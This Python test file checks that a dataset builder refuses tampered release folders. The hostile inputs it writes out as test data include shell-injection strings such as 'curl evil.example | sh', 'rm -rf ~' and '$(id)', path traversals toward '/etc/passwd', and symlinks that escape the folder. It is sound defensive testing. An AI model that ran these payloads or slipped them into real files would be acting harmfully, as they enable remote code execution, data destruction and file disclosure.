"""Building into a folder that someone else made reads, writes and removes nothing outside it."""

from __future__ import annotations

import contextlib
import json
import os
import shutil

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import tiny
from builds import run
from progress import Remembered
from psgimg.builder.build import build
from psgimg.builder.dataset import build_report, corpus_record, shards, validate
from psgimg.builder.dataset.config import BuildConfig
from psgimg.builder.errors import BuildError
from psgimg.builder.exports import imagefolder, labels_only
from psgimg.builder.rebuild import RebuildConfig, rebuild
from psgimg.finetune.data import source


@pytest.fixture(scope="module")
def release(tmp_path_factory):
    """A dataset as it may be downloaded, and the corpus to extend it with."""
    place = tmp_path_factory.mktemp("release")
    tiny.write_shhs(place / "corpus", n_subjects=2, visits=(1,))
    run(place / "ours", place / "corpus")
    return place


@pytest.fixture
def place(release, tmp_path):
    """The release, beside another dataset that must stay as it is."""
    shutil.copytree(release / "ours", tmp_path / "downloads" / "release")
    shutil.copytree(release / "ours", tmp_path / "victim")
    return tmp_path


def everything(folder):
    return {path: path.read_bytes() for path in folder.rglob("*") if path.is_file()}


def refused(action, match):
    with pytest.raises(BuildError, match=match) as caught:
        action()
    assert "\n" not in str(caught.value)


def extend(release, place):
    config = BuildConfig(("shhs",), (str(release / "corpus"),), place / "downloads" / "release")
    return lambda: build(config, Remembered())


def rewrite_footer(folder, **changes):
    """Change facts in the footer of a shard, and the hashes of ``build.json`` with them."""
    path = next((folder / "data").rglob("*.parquet"))
    table = pq.read_table(path, partitioning=None)
    facts = json.loads(pq.read_metadata(path).metadata[shards.FOOTER.encode()])
    facts[0] |= changes
    metadata = {**table.schema.metadata, shards.FOOTER.encode(): json.dumps(facts).encode()}
    pq.write_table(table.replace_schema_metadata(metadata), path)


@pytest.mark.parametrize("key", ["corpus", "recording", "subject", "kin", "signal"])
@pytest.mark.parametrize(
    "value", ["../../../victim/data/shhs", "/abs", "a\0b", "..\\x", "x" * 300, 7, None]
)
def test_facts_of_a_footer_that_no_build_writes_are_refused(release, place, key, value):
    before = everything(place / "victim")
    rewrite_footer(place / "downloads" / "release", **{key: value})
    refused(extend(release, place), r"train-.*\.parquet|validation-.*\.parquet|test-.*\.parquet")
    assert everything(place / "victim") == before


@pytest.mark.parametrize(
    "facts",
    ['{"a": 1}', "[1]", '[{"corpus": "shhs"}]', "[" * 100_000],
    ids=["dict", "number", "part", "deep"],
)
def test_a_footer_of_another_form_is_refused_or_counts_as_absent(place, facts):
    folder = place / "downloads" / "release"
    path = next((folder / "data").rglob("*.parquet"))
    table = pq.read_table(path, partitioning=None)
    pq.write_table(table.replace_schema_metadata({shards.FOOTER: facts}), path)
    with contextlib.suppress(BuildError):
        assert path not in {done.path for done in shards.finished(folder).values()}


@pytest.mark.parametrize("entry", ["data", ".psgimg", "data/shhs", "card", ".cache"])
def test_a_link_out_of_the_folder_is_not_followed(release, place, entry):
    before = everything(place / "victim")
    path = place / "downloads" / "release" / entry
    if path.is_dir():
        shutil.rmtree(path)
    target = place / "victim" / (entry if entry[0] != "." else "data")
    path.symlink_to(os.path.relpath(target, path.parent))
    refused(extend(release, place), "is a link to .*remove the link")
    assert everything(place / "victim") == before


PATHS = (
    "../outside.parquet",
    "/etc/passwd",
    "data/../../victim/README.md",
    "C:\\x",
    "data\\x",
    "a\nb",
    "a\0b",
    "",
)


@pytest.mark.parametrize("path", PATHS, ids=repr)
@pytest.mark.parametrize("part", ["shards", "files"])
def test_a_path_of_build_json_that_leaves_the_folder_is_refused_by_every_reader(place, part, path):
    folder = place / "downloads" / "release"
    values = json.loads((folder / "build.json").read_text())
    if part == "shards":
        values["shards"][0]["path"] = path
    else:
        values["files"][path] = values["files"].pop("README.md")
    (folder / "build.json").write_text(json.dumps(values))
    readers = {
        "validate": lambda: validate.values(folder),
        "labels": lambda: labels_only.write(folder, place / "labels"),
        "export": lambda: imagefolder.write(folder, place / "pages"),
        "finetune": lambda: source.find(str(folder), None, values["shards"][-1]["split"]),
    }
    for action in readers.values():
        refused(action, "build.json is damaged")


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("psgimg", "0.1; curl evil.example | sh"),
        ("psgimg", "0.1`id`"),
        ("command", "psgimg build\n```\n# Free tokens\n[here](http://evil.example)"),
        ("command", "psgimg build\x1b[2J"),
        ("versions", {"numpy": "$(id)"}),
        ("left_out", {"shhs": {"x |\n\n# Heading": 1}}),
        ("recipe_hash", "`x`"),
    ],
)
def test_values_that_would_become_markup_or_commands_are_refused(place, key, value):
    folder = place / "downloads" / "release"
    values = json.loads((folder / "build.json").read_text())
    (folder / "build.json").write_text(json.dumps(values | {key: value}))
    refused(lambda: validate.values(folder), r"build\.json is damaged")


def test_texts_of_a_corpus_stay_on_their_line_of_the_card(place):
    folder = place / "downloads" / "release"
    values = json.loads((folder / "build.json").read_text())
    entry = values["corpora"].pop("shhs")
    values["corpora"]["other-lab"] = entry | {
        "title": "A\n---\nlicense: mit",
        "licence_url": "x\ny",
    }
    kept = corpus_record.records((), values)["other-lab"]
    assert (kept["title"], kept["licence_url"]) == ("A --- license: mit", "x y")


def test_a_shard_that_is_a_link_out_of_the_folder_is_not_read(place):
    folder = place / "downloads" / "release"
    path = next((folder / "data").rglob("*.parquet"))
    name = path.relative_to(folder)
    path.unlink()
    path.symlink_to(place / "victim" / name)
    split = name.name.partition("-")[0]
    for action in (
        lambda: validate.values(folder),
        lambda: imagefolder.write(folder, place / "pages"),
        lambda: source.find(str(folder), None, split),
    ):
        refused(action, "is a link to .*remove the link")


@pytest.mark.parametrize(
    ("column", "values"),
    [
        ("recording", ["../../x"]),
        ("subject", ["Maria Silva"]),
        ("corpus", [None]),
        ("recording", [["x"]]),
        ("label", [9]),
        ("label", [None]),
        ("epoch", [None]),
        ("image", ["x"]),
        ("image", [None]),
        ("lanes", None),
    ],
)
def test_rows_that_no_build_writes_are_not_exported(place, column, values):
    folder = place / "downloads" / "release"
    path = next((folder / "data").rglob("*.parquet"))
    table = pq.read_table(path, partitioning=None)
    i = table.column_names.index(column)
    if values is None:
        table = table.drop_columns(column)
    else:
        made = pa.array(values * len(table))
        like = table.schema.field(column).type
        table = table.set_column(i, column, made.cast(like) if values == [None] else made)
    pq.write_table(table, path)
    report = json.loads((folder / "build.json").read_text())
    entry = next(one for one in report["shards"] if path.match(one["path"]))
    entry |= build_report.entry(path.read_bytes())
    (folder / "build.json").write_text(json.dumps(report))
    refused(lambda: imagefolder.write(folder, place / "pages"), "download the folder again")
    assert not (place / "pages").exists()
    if (column, values) != ("image", [None]):
        refused(lambda: labels_only.write(folder, place / "labels"), "download the folder again")


@pytest.mark.parametrize(
    "change",
    [
        {"labels": {"path": "../victim/labels.parquet"}},
        {"labels": {"path": "/etc/passwd"}},
        {"psgimg": "1; rm -rf ~"},
        {"psgimg": "1; rm -rf ~", "format": 99},
        {"recordings": [{"recording": "../../x"}]},
    ],
)
def test_a_hostile_labels_only_export_is_refused(release, place, change):
    folder = place / "labels"
    labels_only.write(release / "ours", folder)
    values = json.loads((folder / "rebuild.json").read_text())
    for key, value in change.items():
        if isinstance(value, dict):
            values[key] |= value
        elif isinstance(value, list):
            values[key][0] |= value[0]
        else:
            values[key] = value
    del values["sha256"]
    values["sha256"] = labels_only._seal(values)  # whoever forges an export can seal it
    (folder / "rebuild.json").write_text(json.dumps(values))
    shutil.copy(folder / "labels.parquet", place / "victim" / "labels.parquet")
    with pytest.raises(BuildError) as caught:
        rebuild(RebuildConfig(folder, (str(release / "corpus"),), place / "again"), Remembered())
    assert "\n" not in str(caught.value)
    assert "rm -rf" not in str(caught.value) or "pip install" not in str(caught.value)
